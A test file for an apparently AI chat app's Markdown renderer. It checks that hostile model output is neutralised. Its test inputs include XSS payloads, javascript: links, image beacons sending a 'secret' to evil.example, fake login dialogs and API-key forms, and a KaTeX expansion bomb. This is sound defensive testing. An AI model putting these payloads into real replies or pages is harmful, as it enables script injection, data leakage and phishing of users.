import { render, waitFor } from '@solidjs/testing-library';
import { createSignal } from 'solid-js';
import { beforeAll, describe, expect, it } from 'vitest';
import { LazyMarkdown } from '../../src/ui/markdown/LazyMarkdown';
import { RENDER_LIMIT } from '../../src/ui/messages/LongText';
import { Markdown, RENDER_STEP } from '../../src/ui/markdown/Markdown';
import { renderMarkdown, sanitizedFragment } from '../../src/ui/markdown/markdown';

function mount(text: string): HTMLElement {
  const { container } = render(() => <Markdown text={text} />);
  return container;
}

/** A reply as the app shows it: cut, and plain where Markdown would cost too much (the renderer is loaded first). */
function mountReply(text: string): HTMLElement {
  const { container } = render(() => <LazyMarkdown text={text} />);
  return container;
}

beforeAll(async () => {
  const { container, unmount } = render(() => <LazyMarkdown text="*loaded*" />);
  await waitFor(() => expect(container.querySelector('.markdown em')).not.toBeNull());
  unmount();
});

describe('Markdown', () => {
  it('keeps ordinary Markdown: emphasis, lists, code, tables, links', () => {
    const container = mount('**bold** and *soft*\n\n- one\n- two\n\n```js\nlet x = 1 < 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)');
    expect(container.querySelector('strong')).toHaveTextContent('bold');
    expect(container.querySelector('em')).toHaveTextContent('soft');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('pre code')).toHaveTextContent('let x = 1 < 2;');
    expect(container.querySelector('table td')).toHaveTextContent('1');
    const link = container.querySelector('a')!;
    expect(link).toHaveAttribute('href', 'https://example.com');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('removes scripts and event handlers from raw HTML', () => {
    const container = mount('Hi <script>window.__pwned = true</script><img src="x.png" onerror="window.__pwned = true"> <b onclick="alert(1)">there</b>');
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('b')).toBeNull(); // raw HTML is shown as text
    expect(container.querySelectorAll('[onclick], [onerror]')).toHaveLength(0);
    expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  });

  it('sanitizes by itself whatever markup would get past the renderer: the second wall', () => {
    const host = document.createElement('div');
    host.append(sanitizedFragment(
      '<b onclick="window.__pwned = true">bold</b><img src="x.png" onerror="window.__pwned = true"><script>window.__pwned = true</script>'
        + '<div class="dialog" id="root" name="n" style="position:fixed">fake</div><a href="javascript:alert(1)" ping="https://evil.example">link</a>'
        + '<form action="https://evil.example"><input name="password"></form><svg><a href="https://evil.example">s</a></svg><table background="https://evil.example/t"><tr><td>t</td></tr></table>',
    ));
    expect(host.querySelector('b')).toHaveTextContent('bold');
    expect(host.querySelectorAll('[onclick], [onerror], script, img, form, input, svg, [style], [id], [name], [ping], [background]')).toHaveLength(0);
    expect(host.querySelector('.dialog')).toBeNull();
    expect(host.querySelector('a')).not.toHaveAttribute('href');
    expect(host.querySelector('a')).toHaveAttribute('rel', 'noopener noreferrer');
    expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  });

  it('never loads a model\'s image by itself: Markdown images become links, raw media is dropped', () => {
    const container = mount('![chart](https://evil.example/leak?q=secret) <img src="https://evil.example/x.png"> <video src="https://evil.example/v.mp4"></video>');
    expect(container.querySelector('img, video, source, picture')).toBeNull();
    const table = mount('<table background="https://evil.example/leak"><tr><td>x</td></tr></table> <a href="https://a.example" ping="https://evil.example/p">a</a>');
    expect(table.querySelector('[background], [ping]')).toBeNull();
    const link = container.querySelector('a.image-link')!;
    expect(link).toHaveAttribute('href', 'https://evil.example/leak?q=secret');
    expect(link).toHaveTextContent('chart');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('escapes an image\'s alt text and URL in the link it becomes', () => {
    const container = mount('![<b onclick=x>"a"</b>](https://example.com/a"onmouseover="x)');
    const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((attribute) => attribute.name));
    expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
    expect(container.querySelector('b')).toBeNull();
  });

  it('makes code blocks and tables focusable, so a keyboard can scroll them sideways', () => {
    const container = mount('```\nconst x = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(container.querySelector('pre')).toHaveAttribute('tabindex', '0');
    expect(container.querySelector('table')).toHaveAttribute('tabindex', '0');
  });

  it('removes javascript: and other non-web links from Markdown and HTML links', () => {
    const container = mount('[click](javascript:alert(1)) [two](JaVaScRiPt:alert(2)) [three](data:text/html,hi) <a href="javascript:alert(3)">raw</a>');
    const hrefs = [...container.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '');
    expect(hrefs.filter((href) => /javascript:|data:/i.test(href))).toEqual([]);
    expect([...container.querySelectorAll('[title]')].map((node) => node.getAttribute('title'))).toEqual([]);
    expect(container).toHaveTextContent('click');
  });

  it('keeps only web and mail links: a relative link could lead into the app itself', () => {
    const container = mount('[home](/#/settings) [mail](mailto:someone@example.com) [web](http://example.com/a)');
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([null, 'mailto:someone@example.com', 'http://example.com/a']);
  });

  it('drops forms, inputs and inline styles that could imitate the app', () => {
    const container = mount('<form action="https://evil.example"><input name="key" placeholder="API key"><button>Save</button></form><p style="position:fixed">x</p>');
    expect(container.querySelector('form, input, button, [style]')).toBeNull();
  });

  it('re-renders as the text grows', () => {
    const [text, setText] = createSignal('Hello');
    const { container } = render(() => <Markdown text={text()} />);
    expect(container).toHaveTextContent('Hello');
    setText('Hello **world**');
    expect(container.querySelector('strong')).toHaveTextContent('world');
  });
});

describe('Markdown from a hostile or careless model', () => {
  it('shows raw HTML in prose as text instead of swallowing it', () => {
    const container = mount('Use List<String> here, then press <Enter>. Code stays code: `a<b>c` and\n\n```html\n<div class="x">y</div>\n```');
    expect(container.textContent).toContain('Use List<String> here, then press <Enter>.');
    expect(container.querySelector('code')).toHaveTextContent('a<b>c');
    expect(container.querySelector('pre code')).toHaveTextContent('<div class="x">y</div>');
    expect(container.querySelector('div.x')).toBeNull();
  });

  it('cannot use the app\'s classes, ids or styles to draw a fake dialog or notice', () => {
    const reply = '<div class="dialog-backdrop"><div class="dialog" id="root" style="position:fixed;inset:0"><h2>Session expired</h2><a class="button primary" href="https://evil.example/login">Sign in again</a></div></div>\n\n<div class="toasts">Fake notice</div>';
    const container = mount(reply);
    expect(container.querySelector('.dialog-backdrop, .dialog, .toasts, .button, #root, [style]')).toBeNull();
    expect(container.querySelector('.markdown a')).toBeNull(); // raw HTML is text, so not even a link
    expect(container.textContent).toContain('Session expired');
    // Defence in depth: markup that reached the sanitizer loses them too, and keeps the renderer's own classes.
    const host = document.createElement('div');
    host.append(sanitizedFragment(`${reply.replaceAll('\n\n', '')}<span class="link-destination">(a.example)</span>`));
    expect(host.querySelector('.dialog-backdrop, .dialog, .toasts, .button, #root, [style]')).toBeNull();
    expect(host.querySelector('span')).toHaveAttribute('class', 'link-destination');
  });

  it('keeps only the classes its own renderer writes', () => {
    const container = mount('```dialog\ncode\n```\n\n![pic](https://a.example/p.png)');
    expect(container.querySelector('code')).toHaveAttribute('class', 'language-dialog');
    expect(container.querySelector('a')).toHaveAttribute('class', 'image-link');
  });

  it('shows where a link really goes when its text says something else', () => {
    const container = mount('[Sign in again](https://evil.example/login) and <https://plain.example/x>');
    const [disguised, plain] = [...container.querySelectorAll('a')];
    expect(disguised).toHaveTextContent('Sign in again (evil.example)');
    expect(disguised).toHaveAttribute('title', 'https://evil.example/login');
    expect(plain).toHaveTextContent('https://plain.example/x');
    expect(plain!.querySelector('.link-destination')).toBeNull();
  });
});

describe('Markdown cost cap', () => {
  it('renders a 10 MB nested-list reply without throwing, cut with "Show all"', () => {
    const nested = Array.from({ length: 420_000 }, (_, index) => `${'  '.repeat(index % 12)}- item ${index}`).join('\n');
    expect(nested.length).toBeGreaterThan(10_000_000);
    const container = mountReply(nested);
    expect(container.querySelector('.markdown')).not.toBeNull();
    expect(container).toHaveTextContent('Showing the first 100,000 of');
    expect(container.querySelector('button')).toHaveTextContent('Show all');
  }, 30_000);
});

describe('Markdown too costly to render in steps', () => {
  // Measured before: 10,000 nested lists 878 ms, 100,000 characters nested 15 deep under one item 1.1 s, a 300,000-
  // character line 752 ms in one task. Such text is shown plain, cut as plain text is, and says why.
  it.each([
    ['nested past any honest reply', `${'- '.repeat(10_000)}x`],
    ['nested in one huge block', `- top\n${Array.from({ length: 3_000 }, (_, index) => `${'  '.repeat(1 + (index % 14))}- item ${index}`).join('\n')}`],
    ['a quote that never ends', Array.from({ length: 5_000 }, (_, index) => `${'> '.repeat(1 + (index % 15))}line ${index}`).join('\n')],
    ['one huge line', 'word '.repeat(60_000)],
  ])('is shown as plain text: %s', (_, text) => {
    const container = mountReply(text);
    expect(container.querySelector('.markdown')).toBeNull();
    expect(container).toHaveTextContent('Shown as plain text');
    expect(container.querySelector('.message-text')!.textContent!.length).toBeLessThanOrEqual(RENDER_LIMIT);
  });

  it('keeps honest Markdown formatted: lists a few levels deep, long code, many paragraphs', () => {
    const honest = [
      Array.from({ length: 2_000 }, (_, index) => `${'  '.repeat(index % 6)}- item ${index}`).join('\n'),
      `\`\`\`js\n${'let a = 1;'.repeat(5_000)}\n\`\`\``,
      Array.from({ length: 500 }, (_, index) => `Paragraph ${index} ${'x'.repeat(100)}`).join('\n\n'),
    ].join('\n\n');
    const container = mountReply(honest);
    expect(container.querySelector('.markdown')).not.toBeNull();
    expect(container).not.toHaveTextContent('Shown as plain text');
  });
});

describe('A reply streaming past the limit', () => {
  it('leaves the rendered part alone while text beyond the limit arrives', async () => {
    const paragraphs = (from: number, count: number) => Array.from({ length: count }, (_, index) => `Paragraph ${from + index} ${'x'.repeat(90)}`).join('\n\n');
    const [text, setText] = createSignal(paragraphs(0, 1_200));
    const { container, findByText } = render(() => <LazyMarkdown text={text()} />);
    await findByText(/Showing the first 100,000 of/, {}, { timeout: 60_000 });
    // Rendered in steps: wait for the last paragraph that starts within the limit.
    const lastShown = [...text().slice(0, 100_000).matchAll(/Paragraph \d+/g)].at(-1)![0];
    await findByText(new RegExp(`^${lastShown} `), {}, { timeout: 60_000 });
    const markdown = container.querySelector('.markdown')!;
    const last = markdown.lastElementChild;
    const count = markdown.childNodes.length;
    setText(`${text()}\n\n${paragraphs(1_200, 50)}`);
    await findByText(new RegExp(`of ${(text().length).toLocaleString('en-US')}`), {}, { timeout: 60_000 });
    await new Promise((resolve) => setTimeout(resolve, 50));
    // The same nodes: the tail was not taken out and rendered again.
    expect(markdown.lastElementChild).toBe(last);
    expect(markdown.childNodes.length).toBe(count);
  }, 120_000);
});

describe('Show all', () => {
  it('renders the whole reply in steps, and keeps showing text that arrives after it', async () => {
    const [text, setText] = createSignal(Array.from({ length: 1_700 }, (_, index) => `- item ${index} ${'x'.repeat(60)}`).join('\n'));
    const { container, findByText } = render(() => <LazyMarkdown text={text()} />);
    expect(container).not.toHaveTextContent('item 1699 ');
    container.querySelector('button')!.click();
    await findByText(/item 1699 /, {}, { timeout: 60_000 });
    expect(container.querySelector('.markdown-cut')).toBeNull();
    setText(`${text()}${'\n- more'.repeat(200)}\n\n${'y'.repeat(60_000)}\n- the last item`);
    await findByText(/the last item/, {}, { timeout: 60_000 });
  }, 120_000);
});

describe('Rendering in steps', () => {
  it('renders a reply that arrives in one big jump a step per task, never all in the first', async () => {
    const nested = Array.from({ length: 1_500 }, (_, index) => `${'  '.repeat(index % 12)}- item ${index}`).join('\n');
    expect(nested.length).toBeGreaterThan(RENDER_STEP * 5);
    const { container, findByText } = render(() => <Markdown text={nested} />);
    // The first task rendered about one step: the start is there, the end is not yet.
    expect(container).toHaveTextContent('item 0');
    expect(container.textContent!.length).toBeLessThan(RENDER_STEP);
    await findByText(/^item 1499$/, {}, { timeout: 60_000 });
    const atOnce = document.createElement('div');
    atOnce.innerHTML = renderMarkdown(nested);
    expect(container.querySelector('.markdown')!.innerHTML).toBe(atOnce.innerHTML);
  }, 120_000);
});

describe('Code blocks', () => {
  it('name their language, get a "Copy code" button that copies the code as written, and colours', async () => {
    const written: string[] = [];
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText: async (text: string) => void written.push(text) } });
    const { container, findByRole, findByText } = render(() => <Markdown text={'```ts\nconst a = 1; // one\n```'} />);
    expect(container.querySelector('.code-language')).toHaveTextContent('ts');
    (await findByRole('button', { name: 'Copy code' })).click();
    await findByText('Copied');
    expect(written).toEqual(['const a = 1; // one']);
    await waitFor(() => expect(container.querySelector('code .hljs-keyword')).toHaveTextContent('const'));
    expect(container.querySelector('code .hljs-comment')).toHaveTextContent('// one');
    expect(container.querySelector('pre code')!.textContent).toBe('const a = 1; // one\n');
  });

  it('keep a block in a language the highlighter does not know as plain text, still copyable', async () => {
    const { container, findByRole } = render(() => <Markdown text={'```klingon\n<b class="dialog">qapla</b>\n```'} />);
    await findByRole('button', { name: 'Copy code' });
    expect(container.querySelector('.code-language')).toHaveTextContent('klingon');
    expect(container.querySelector('pre code')).toHaveTextContent('<b class="dialog">qapla</b>');
    expect(container.querySelector('.dialog, b')).toBeNull();
  });
});

describe('Task lists', () => {
  it('render as disabled checkboxes named Done and Not done', () => {
    const container = mount('- [x] shipped\n- [ ] tested');
    const boxes = [...container.querySelectorAll('input')];
    expect(boxes.map((box) => [box.type, box.disabled, box.checked, box.getAttribute('aria-label')])).toEqual([
      ['checkbox', true, true, 'Done'],
      ['checkbox', true, false, 'Not done'],
    ]);
  });

  it('is the only input the sanitizer lets through, with no other attribute', () => {
    const host = document.createElement('div');
    host.append(sanitizedFragment('<input type="checkbox" disabled onclick="x()" name="n" class="dialog" value="v"><input type="checkbox"><input type="text" disabled><input type="password">'));
    const inputs = [...host.querySelectorAll('input')];
    expect(inputs).toHaveLength(1);
    expect([...inputs[0]!.attributes].map((attribute) => attribute.name).sort()).toEqual(['disabled', 'type']);
  });
});

describe('Maths', () => {
  it('marks $…$, \\(…\\), $$…$$ and \\[…\\] as maths, and leaves prices as prose', () => {
    const html = renderMarkdown('Inline $x^2$ and \\(y\\), cost $5 and $10.\n\n$$a+b$$\n\n\\[c\\]');
    const host = document.createElement('div');
    host.innerHTML = html;
    expect([...host.querySelectorAll('.math-inline')].map((element) => element.textContent)).toEqual(['x^2', 'y']);
    expect([...host.querySelectorAll('.math-display')].map((element) => element.textContent)).toEqual(['a+b', 'c']);
    expect(host.textContent).toContain('cost $5 and $10.');
  });

  it('typesets with KaTeX; a model\'s \\htmlClass, \\href or style gets nothing through (trust is off)', async () => {
    const container = mount('Euler: $e^{i\\pi}+1=0$ and $\\htmlClass{dialog}{x}\\htmlStyle{position:fixed}{y}$ and $\\href{javascript:alert(1)}{z}$');
    await waitFor(() => expect(container.querySelectorAll('.katex, .katex-error')).toHaveLength(3));
    expect(container.querySelector('.dialog')).toBeNull();
    expect(container.querySelector('a')).toBeNull();
    expect([...container.querySelectorAll('[style]')].map((element) => element.getAttribute('style'))).not.toContain('position:fixed');
  });

  it('stops a maths bomb with a clear note and keeps the rest of the message', async () => {
    const container = mount('Before $\\def\\a{\\a\\a}\\a$ middle $x$ after.\n\nLast paragraph.');
    await waitFor(() => expect(container.querySelector('.math-note')).not.toBeNull());
    expect(container.querySelector('.math-note')).toHaveTextContent(/This maths could not be shown .*Too many expansions/);
    expect(container).toHaveTextContent('Last paragraph.');
    expect(container.querySelectorAll('.katex')).toHaveLength(1);
  });
});
